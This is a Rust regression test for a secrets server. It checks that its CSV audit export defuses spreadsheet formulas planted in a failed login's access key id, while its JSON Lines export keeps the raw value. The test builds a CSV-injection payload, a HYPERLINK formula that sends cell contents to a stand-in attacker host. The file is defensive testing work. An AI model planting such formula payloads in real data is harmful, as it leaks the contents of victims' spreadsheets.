//! What the server writes to the audit log for requests it refuses, and how those events
//! leave the store (exports).

use coffer_api::audit::{ExportFormat, export};
use coffer_engine::{AuditEvent, AuditFilter};

use crate::support::{Fixture, Reply, root};

/// The audit event of the request that got `reply` (by its request id).
async fn event_of(f: &Fixture, reply: &Reply) -> Option<AuditEvent> {
    let id = reply.header("x-amzn-requestid").expect("a request id");
    let page = f
        .engine
        .query_audit(&root(), &AuditFilter::default())
        .await
        .unwrap();
    page.events.into_iter().find(|e| e.request_id == id)
}

/// The cells of an RFC 4180 document (quoted fields may hold commas, quotes and newlines).
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell) = (Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

/// The access key id of a failed login is whatever the caller put in `Credential=`, and it
/// went into the CSV export as is: `=HYPERLINK(…)` became a live formula in the
/// spreadsheet of whoever opened the export. Cells that a spreadsheet would read as a
/// formula are exported with a leading `'` (OWASP's CSV-injection advice); JSON Lines keep
/// the value exactly.
#[tokio::test]
async fn a_formula_in_a_failed_login_is_inert_in_the_csv_export() {
    let f = Fixture::start().await;
    let formula = r#"=HYPERLINK("https:evil.example?k="&A1)"#;
    let reply = f
        .send(f.api_signed(
            "GetSecretValue",
            r#"{"SecretId":"db/prod"}"#,
            formula,
            &f.secret,
            f.clock_now(),
        ))
        .await;
    assert_eq!(reply.error_code(), "UnrecognizedClientException");
    let event = event_of(&f, &reply).await.expect("the failed login");
    assert_eq!(event.access_key_id.as_deref(), Some(formula));

    let failed_logins = AuditFilter {
        action: Some("Authenticate".into()),
        ..AuditFilter::default()
    };
    let mut csv = Vec::new();
    export(
        &f.engine,
        &root(),
        &failed_logins,
        ExportFormat::Csv,
        &mut csv,
    )
    .await
    .unwrap();
    let rows = csv_cells(&String::from_utf8(csv).unwrap());
    let column = rows[0].iter().position(|c| c == "access_key_id").unwrap();
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(rows[1][column], format!("'{formula}"));
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would evaluate: {cell:?}"
        );
    }

    let mut jsonl = Vec::new();
    export(
        &f.engine,
        &root(),
        &failed_logins,
        ExportFormat::JsonLines,
        &mut jsonl,
    )
    .await
    .unwrap();
    let line: serde_json::Value = serde_json::from_slice(&jsonl).unwrap();
    assert_eq!(line["AccessKeyId"], formula);
    f.stop().await;
}
